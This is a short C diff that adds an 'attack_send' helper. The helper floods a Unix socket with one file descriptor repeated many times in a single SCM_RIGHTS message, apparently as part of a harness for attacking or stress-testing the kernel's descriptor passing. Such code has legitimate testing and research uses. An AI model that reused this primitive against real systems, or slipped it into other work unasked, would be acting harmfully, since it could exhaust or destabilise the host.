@@ -129,3 +129,14 @@ int attack_children(void) {
   memset(&info, 0, sizeof info);
   return waitid(P_ALL, 0, &info, WEXITED | WNOHANG | WNOWAIT) == 0;
 }
+
+void attack_send(int socket, int descriptor, int count) {
+  char byte = 0, control[CMSG_SPACE(sizeof(int) * 253)] = {0};
+  struct iovec part = {&byte, 1};
+  struct msghdr message = {
+      .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)count)};
+  struct cmsghdr *head = (struct cmsghdr *)control;
+  head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)count);
+  for (int i = 0; i < count; i++) memcpy(CMSG_DATA(head) + sizeof(int) * (size_t)i, &descriptor, sizeof(int));
+  sendmsg(socket, &message, MSG_NOSIGNAL);
+}
